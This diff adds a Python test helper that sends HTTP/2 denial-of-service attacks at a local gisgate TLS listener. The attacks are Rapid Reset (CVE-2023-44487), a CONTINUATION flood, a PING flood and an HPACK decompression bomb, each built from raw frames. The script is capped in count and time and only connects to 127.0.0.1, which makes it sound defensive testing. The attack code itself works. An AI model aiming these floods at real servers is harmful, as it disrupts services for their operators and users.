@@ -1,0 +1,200 @@
+#!/usr/bin/python3
+"""HTTP/2 attacks against a gisgate TLS listener (raw frames; HPACK from Debian's python3-hpack, which python3-h2 brings), for http2_test.cpp.
+
+Usage: h2_attack.py MODE PORT [PATH]. Prints one JSON object: what the attacker saw.
+  rapid_reset   10,000 HEADERS + RST_STREAM pairs (CVE-2023-44487)
+  continuation  HEADERS without END_HEADERS, then CONTINUATION frames until the connection ends (2024 flood)
+  ping_flood    100,000 PINGs without reading a single ACK
+  hpack_bomb    one 4 KiB header in the dynamic table, then a request referencing it 1,000 times
+Every loop is bounded in count and time, and only 127.0.0.1 is contacted.
+"""
+import json
+import socket
+import ssl
+import struct
+import sys
+import time
+
+import hpack
+
+DEADLINE = time.monotonic() + 60
+
+
+def connect(port):
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    ctx.set_alpn_protocols(["h2"])
+    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
+    sock = ctx.wrap_socket(raw, server_hostname="127.0.0.1")
+    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
+    return sock
+
+
+def frame(kind, flags, stream, payload):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+SETTINGS_EMPTY = frame(0x4, 0, 0, b"")
+
+
+def drain(sock, seconds):
+    """Reads until the peer closes or `seconds` pass; returns (bytes read, GOAWAY error code or None, closed)."""
+    sock.settimeout(0.5)
+    got = b""
+    end = min(time.monotonic() + seconds, DEADLINE)
+    closed = False
+    while time.monotonic() < end:
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except (ConnectionError, ssl.SSLError, OSError):
+            closed = True
+            break
+        if not data:
+            closed = True
+            break
+        got += data
+    return got, goaway_code(got), closed
+
+
+def goaway_code(data):
+    pos = 0
+    while pos + 9 <= len(data):
+        length = int.from_bytes(data[pos:pos + 3], "big")
+        kind = data[pos + 3]
+        if kind == 0x7 and pos + 9 + 8 <= len(data):
+            return int.from_bytes(data[pos + 9 + 4:pos + 9 + 8], "big")
+        pos += 9 + length
+    return None
+
+
+def request_headers(port, path):
+    return [(":method", "GET"), (":scheme", "https"), (":authority", "127.0.0.1:%d" % port), (":path", path)]
+
+
+def send_all(sock, data):
+    try:
+        sock.sendall(data)
+        return True
+    except (ConnectionError, ssl.SSLError, OSError):
+        return False
+
+
+def rapid_reset(port, path):
+    sock = connect(port)
+    encoder = hpack.Encoder()
+    sent = 0
+    alive = send_all(sock, PREFACE + SETTINGS_EMPTY)
+    batch = b""
+    for i in range(10000):
+        stream = 1 + 2 * i
+        block = encoder.encode(request_headers(port, path))
+        batch += frame(0x1, 0x5, stream, block)                   # HEADERS, END_STREAM | END_HEADERS
+        batch += frame(0x3, 0, stream, struct.pack(">I", 8))       # RST_STREAM CANCEL
+        if len(batch) > 32768:
+            if not send_all(sock, batch):
+                alive = False
+                break
+            sent = i + 1
+            batch = b""
+        if time.monotonic() > DEADLINE:
+            break
+    if alive and batch and send_all(sock, batch):
+        sent = 10000
+    _, code, closed = drain(sock, 10)
+    return {"sent": sent, "goaway": code, "closed": closed}
+
+
+def continuation(port, path):
+    sock = connect(port)
+    encoder = hpack.Encoder()
+    send_all(sock, PREFACE + SETTINGS_EMPTY)
+    send_all(sock, frame(0x1, 0x1, 1, encoder.encode(request_headers(port, path))))  # END_STREAM, no END_HEADERS
+    sent = 0
+    filler = frame(0x9, 0, 1, encoder.encode([("x-filler", "a" * 100)]))
+    for _ in range(10000):
+        if not send_all(sock, filler):
+            break
+        sent += 1
+        if time.monotonic() > DEADLINE:
+            break
+    _, code, closed = drain(sock, 10)
+    return {"sent": sent, "goaway": code, "closed": closed}
+
+
+def ping_flood(port, _path):
+    sock = connect(port)
+    send_all(sock, PREFACE + SETTINGS_EMPTY)
+    pings = frame(0x6, 0, 0, b"12345678") * 1000
+    sent = 0
+    for _ in range(100):
+        if not send_all(sock, pings):
+            break
+        sent += 1000
+        if time.monotonic() > DEADLINE:
+            break
+    _, code, closed = drain(sock, 10)
+    return {"sent": sent, "goaway": code, "closed": closed}
+
+
+def read_frames(sock, seconds, want):
+    """Frames from the server until `want(frames)` or `seconds` pass: [(type, flags, stream, payload)]."""
+    sock.settimeout(0.5)
+    buf, frames = b"", []
+    end = time.monotonic() + seconds
+    while time.monotonic() < end and not want(frames):
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except (ConnectionError, ssl.SSLError, OSError):
+            break
+        if not data:
+            break
+        buf += data
+        while len(buf) >= 9:
+            length = int.from_bytes(buf[:3], "big")
+            if len(buf) < 9 + length:
+                break
+            frames.append((buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF, buf[9:9 + length]))
+            buf = buf[9 + length:]
+    return frames
+
+
+def hpack_bomb(port, path):
+    sock = connect(port)
+    send_all(sock, PREFACE + SETTINGS_EMPTY + frame(0x4, 0x1, 0, b""))
+    # The big header goes into the dynamic table once (incremental indexing), then is referenced by its index.
+    encoder = hpack.Encoder()
+    first = encoder.encode(request_headers(port, path) + [("x-bomb", "b" * 4000)])
+    index = bytes([0x80 | 62])  # the newest dynamic-table entry: the big header
+    # Stream 1 carries it once (a normal request); stream 3 references it 1,000 times: ~4 MB once decoded.
+    # Its other fields as never-indexed literals: indexing them would evict the big entry from the table.
+    bomb = encoder.encode([(n, v, True) for n, v in request_headers(port, path)]) + index * 1000
+    send_all(sock, frame(0x1, 0x5, 1, first) + frame(0x1, 0x5, 3, bomb))
+    decoder = hpack.Decoder()
+    statuses = {}
+
+    def done(frames):
+        for kind, flags, stream, payload in frames[len(done.seen):]:
+            done.seen.append(stream)
+            if kind == 0x1:
+                statuses[str(stream)] = int(dict(decoder.decode(payload))[":status"])
+            elif kind == 0x3:
+                statuses[str(stream)] = "reset"
+        return len(statuses) >= 2
+    done.seen = []
+    read_frames(sock, 15, done)
+    return {"statuses": statuses}
+
+
+MODES = {"rapid_reset": rapid_reset, "continuation": continuation, "ping_flood": ping_flood,
+         "hpack_bomb": hpack_bomb}
+
+if __name__ == "__main__":
+    mode, port = sys.argv[1], int(sys.argv[2])
+    path = sys.argv[3] if len(sys.argv) > 3 else "/arcgis/rest/info?f=json"
+    print(json.dumps(MODES[mode](port, path)))
